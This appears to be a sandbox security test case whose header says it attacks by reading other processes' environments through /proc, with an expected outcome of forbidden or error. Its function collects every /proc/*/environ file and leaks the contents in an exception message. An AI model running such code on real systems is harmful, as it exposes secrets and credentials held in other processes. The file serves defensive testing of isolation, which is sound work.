# attacks: reads the environment of other processes through /proc
# outcome: db forbidden|error
# points: 0
import glob


def db(dZ):
    found = b"".join(open(path, "rb").read() for path in sorted(glob.glob("/proc/*/environ")))
    raise RuntimeError(found or open("/proc/1/environ").read())
